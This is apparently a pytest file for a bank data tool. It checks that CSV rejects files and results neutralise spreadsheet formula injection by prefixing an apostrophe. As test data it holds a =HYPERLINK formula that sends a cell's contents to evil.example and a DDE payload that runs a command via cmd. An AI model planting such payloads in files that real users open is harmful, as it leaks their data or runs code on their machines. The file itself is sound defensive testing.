"""Rejects files and CSV results are formula-safe (issue 18, finding 7).

A cell a spreadsheet would evaluate (leading = + - @ TAB CR) is written with a leading
apostrophe, the rule of the app's Excel exports; every other value is kept as it was
(the rejects file is the bank's own: full phone and id number stay)."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pytest

from rmperf.engine.formula_safe import formula_safe, formula_safe_table
from rmperf.engine.output import write_result
from rmperf.engine.validate import validate_lake
from rmperf.segments.export import safe_text
from tests.engine.lakes import BASE, TODAY, row, write_lake

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"click")'


def _raw_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138 0000 0001", "'+86 138 0000 0001"),
        ("-5.00", "'-5.00"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        ("王一", "王一"),
    ],
)
def test_the_rule(value: str, written: str) -> None:
    assert formula_safe(value) == written
    assert safe_text(value) == written  # the Excel exports' rule is the same one
    table = formula_safe_table(pa.table({"t": [value, None]}))
    assert table.column("t").to_pylist() == [written, None]


def test_a_rejected_customer_is_written_formula_safe_and_complete(tmp_path: Path) -> None:
    bad = row(
        "customers",
        customer_id="C9",
        name=HYPERLINK,
        kind="prospect",  # not allowed: the row is rejected
        phone="+86 139 0000 0009",
        id_number="110101199001010099",
        risk_level="@C3",
    )
    lake = write_lake(tmp_path, {"customers": [*BASE["customers"], bad]})

    result = validate_lake(lake, today=TODAY, tables=["customers"])

    assert result.summaries["customers"].rejected == 1
    header, *rows = _raw_rows(lake / "_rejects" / "customers.csv")
    assert len(rows) == 1
    got = dict(zip(header, rows[0], strict=True))
    assert got["customer_id"] == "C9"
    assert got["name"] == "'" + HYPERLINK
    assert got["phone"] == "'+86 139 0000 0009"  # full, but not a formula
    assert got["id_number"] == "110101199001010099"
    assert got["risk_level"] == "'@C3"
    assert got["kind"] == "prospect"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[0])


def test_a_csv_result_has_formula_safe_text_and_plain_numbers(tmp_path: Path) -> None:
    table = pa.table(
        {
            "customer_id": ["C1", "C2"],
            "label": ["=cmd|' /C calc'!A0", "gold"],
            "value": pa.array([Decimal("-12.50"), Decimal("3.00")], pa.decimal128(12, 2)),
            "days": [-3, 4],
        }
    )

    write_result(table, tmp_path / "out.csv")

    assert _raw_rows(tmp_path / "out.csv") == [
        ["customer_id", "label", "value", "days"],
        ["C1", "'=cmd|' /C calc'!A0", "-12.50", "-3"],
        ["C2", "gold", "3.00", "4"],
    ]


def test_a_parquet_result_keeps_every_value(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    table = pa.table({"label": ["=1+1"]})
    write_result(table, tmp_path / "out.parquet")
    assert pq.read_table(tmp_path / "out.parquet").column("label").to_pylist() == ["=1+1"]
